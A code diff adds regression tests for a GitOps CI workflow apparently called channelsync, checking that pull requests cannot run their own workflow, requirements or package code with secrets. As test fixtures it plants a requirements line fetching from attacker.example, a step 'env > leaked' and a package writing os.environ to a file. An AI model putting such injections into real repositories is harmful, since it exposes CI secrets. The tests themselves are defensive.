@@ -16,6 +16,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from ruamel.yaml import YAML
 
 from tests.gitops.conftest import FakeGitHub, channelsync, git
 from tests.gitops.local_runner import JobResult, run_job
@@ -61,9 +62,14 @@ def run(
 ) -> JobResult:
     temp = Path(contexts["runner"]["temp"])
     temp.mkdir(parents=True, exist_ok=True)
-    return run_job(
-        repo / ".github" / "workflows" / workflow, job, workdir=repo, contexts=contexts, env=env
-    )
+    path = repo / ".github" / "workflows" / workflow
+    pull = contexts["github"]["event"].get("pull_request")
+    if pull is not None:  # pull_request_target: GitHub runs the base branch's copy of the file
+        base_copy = git(repo, "show", f"origin/{pull['base']['ref']}:.github/workflows/{workflow}")
+        if "pull_request_target" in YAML(typ="safe").load(base_copy)["on"]:
+            path = temp / workflow
+            path.write_text(base_copy, encoding="utf-8")
+    return run_job(path, job, workdir=repo, contexts=contexts, env=env)
 
 
 def plan_pr(repo: Path, tmp_path: Path, env: dict[str, str], name: str, **kw: Any) -> JobResult:
@@ -258,6 +264,62 @@ def test_plan_workflow_without_trusted_bindings_runs_no_connection_tests_and_say
         assert server._connections == []
     finally:
         server.close()
+
+
+def test_plan_workflow_installs_the_base_branchs_channelsync_never_the_pull_requests(
+    scratch_repo: Path, tmp_path: Path, fake_gh: FakeGitHub, runner_env: Env, target: str
+) -> None:
+    bind_on_main(scratch_repo, None)  # no connection tests: nothing here reaches the network
+    requirements = Path(".github/channelsync/requirements.txt")
+    on_main = (scratch_repo / requirements).read_text(encoding="utf-8")
+    (scratch_repo / requirements).write_text("channelsync @ git+https://attacker.example/x\n")
+    secrets = {"CHANNELSYNC_TARGET": target, **PASSWORD}
+    result = plan_pr(scratch_repo, tmp_path, runner_env(), "run", fork=False, secrets=secrets)
+    assert result.ok, [(s.name, s.stderr) for s in result.steps]
+    install = result.step("install")  # stubbed: where it would run `pip install -r` instead
+    assert install.cwd == tmp_path / "run" / "channelsync-base"
+    assert (install.cwd / requirements).read_text(encoding="utf-8") == on_main
+    body = fake_gh.state["comments"][0]["body"]
+    assert (
+        "This pull request changes `.github/channelsync/requirements.txt`. This plan ran the "
+        "workflow and the channelsync of `main` (a pull request's files are only read as data, "
+        "and nothing from them runs where secrets are): the change takes effect once it is merged."
+    ) in body
+
+
+def test_plan_workflow_runs_the_base_branchs_copy_of_itself_not_the_pull_requests(
+    scratch_repo: Path, tmp_path: Path, fake_gh: FakeGitHub, runner_env: Env, target: str
+) -> None:
+    bind_on_main(scratch_repo, None)
+    workflow = scratch_repo / ".github" / "workflows" / "channels-plan.yml"
+    leak = tmp_path / "leaked"
+    text = workflow.read_text(encoding="utf-8")
+    plan_step = "run: python -P -m channelsync.gitops.ci plan"
+    assert plan_step in text
+    workflow.write_text(text.replace(plan_step, f"run: env > {leak}"), encoding="utf-8")
+    secrets = {"CHANNELSYNC_TARGET": target, **PASSWORD}
+    result = plan_pr(scratch_repo, tmp_path, runner_env(), "run", fork=False, secrets=secrets)
+    assert result.ok, [(s.name, s.stderr) for s in result.steps]
+    assert not leak.exists(), "the pull request's own workflow ran with the secrets"
+    body = fake_gh.state["comments"][0]["body"]
+    assert "This pull request changes `.github/workflows/channels-plan.yml`." in body
+
+
+def test_plan_workflow_never_imports_a_channelsync_folder_of_the_pull_request(
+    scratch_repo: Path, tmp_path: Path, fake_gh: FakeGitHub, runner_env: Env, target: str
+) -> None:
+    bind_on_main(scratch_repo, None)
+    package = scratch_repo / "channelsync"
+    package.mkdir()
+    leak = tmp_path / "leaked"
+    code = f"import os, pathlib\npathlib.Path({str(leak)!r}).write_text(repr(dict(os.environ)))\n"
+    for name in ("__init__.py", "__main__.py"):
+        (package / name).write_text(code)
+    secrets = {"CHANNELSYNC_TARGET": target, **PASSWORD}
+    result = plan_pr(scratch_repo, tmp_path, runner_env(), "run", fork=False, secrets=secrets)
+    assert result.ok, [(s.name, s.stderr) for s in result.steps]
+    assert not leak.exists(), "the pull request's own channelsync/ ran with the secrets"
+    assert "### channelsync Plan: 1 to create" in fake_gh.state["comments"][0]["body"]
 
 
 # ---- channels-apply.yml ------------------------------------------------------------------------
